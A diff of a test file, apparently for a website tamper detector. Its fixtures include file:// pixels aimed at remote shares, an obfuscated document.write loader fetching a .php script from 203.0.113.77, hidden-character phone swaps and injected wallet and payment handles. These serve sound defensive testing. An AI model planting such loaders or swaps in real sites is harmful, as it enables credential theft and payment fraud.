@@ -24,7 +24,7 @@ describe("round 13: where links and forms send visitors", () => {
       `<img src="file://203.0.113.9/share/pixel.png" width="1" height="1" alt="">`,
       `<div style="background:url('file://files.example.net/pub/bg.jpg')">Offers</div>`,
       `<iframe src="file://203.0.113.9/c$/x.html" width="1" height="1"></iframe>`
-    ]) expect(breaches(verdictOf(page({ seed: 4, body })), body)).toContain("destinations/link_local_handler")
+    ]) expect(breaches(verdictOf(page({ seed: 4, body }))), body).toContain("destinations/link_local_handler")
     expect(verdictOf(page({ seed: 4, body: `<img src="/static/oven.jpg" alt="Our oven">` })).alert).toBe(false)
   })
 
@@ -100,5 +100,27 @@ describe("round 13: what the visitor reads", () => {
     expect(serverErrorsOf("Our warning: the oven is hot in the morning, on line one of the menu")).toEqual([])
     expect(breaches(verdictOf(page({ seed: 4, top: `<br><b>Warning</b>: include(/var/www/hb/wp-content/.x1.ico): Failed to open stream in <b>/var/www/hb/index.php</b> on line <b>2</b><br>` })))).toContain("visible_text/server_error")
     expect(checks(verdictOf(page({ seed: 4, top: `<b>Deprecated</b>: Function each() is deprecated in <b>/var/www/hb/lib.php</b> on line <b>9</b>` })))).toContain("visible_text/server_error")
+  })
+})
+
+describe("round 13: identifiers written in pieces, new payment kinds, loaders that copy the page's own", () => {
+  it("a number broken up by hidden characters reads as shown: the swap is a change, not a removal", () => {
+    const base = baselineOf(samples((seed) => page({ seed, body: `<p>Orders: 0113 496 0321</p>` })))
+    const decoy = `<p>Orders: 0<i hidden>58</i>11<span style="display:none">x</span>3 4<span style="font-size:0">null</span>96 0777</p>`
+    expect(breaches(verdictOf(page({ seed: 4, body: decoy }), base))).toContain("identifiers/phone_changed")
+  })
+
+  it("a Lightning address or LNURL is a wallet; an instant-payment alias is a payment handle", () => {
+    const lnurl = "LNURL1DP68GURN8GHJ7UM9WFMXJCM99E3K7MF0V9CXJ0M385EKVCENXC6R2C35XVUKXEFCV5MKVV34X5EKZD3EV56NYD3HXQURZEPEXEJXXEPNXSCRVWFNV9NXZCN9XQ6XYEFHVGCXXCMYXYMNSERXFQ5FNS"
+    expect(breaches(verdictOf(page({ seed: 4, body: `<p>⚡ Tips over Lightning: <code>${lnurl}</code></p>` })))).toContain("identifiers/wallet_appeared")
+    expect(breaches(verdictOf(page({ seed: 4, body: `<p>⚡ Tips: bakerytips@getalby.com</p>` })))).toContain("identifiers/wallet_appeared")
+    expect(breaches(verdictOf(page({ seed: 4, body: `<p>Card machine down today: pay by Bizum to 612 345 678 and show us the receipt.</p>` })))).toContain("identifiers/pay_appeared")
+  })
+
+  it("a loader written like the page's own document.write tag, once more than the page has it, is judged by where it loads from", () => {
+    const tag = (src: string) => `<script>document.write('<s'+'cript src="${src}"></s'+'cript>');</script>`
+    const base = baselineOf(samples((seed) => page({ seed, body: tag("https://www.harbourbakery.co.uk/static/menu.js") })))
+    expect(verdictOf(page({ seed: 4, body: tag("https://www.harbourbakery.co.uk/static/menu.js") }), base).alert).toBe(false)
+    expect(breaches(verdictOf(page({ seed: 4, top: tag("http://203.0.113.77:8080/jquery.min.php"), body: tag("https://www.harbourbakery.co.uk/static/menu.js") }), base))).toContain("destinations/inline_script_new_domain")
   })
 })
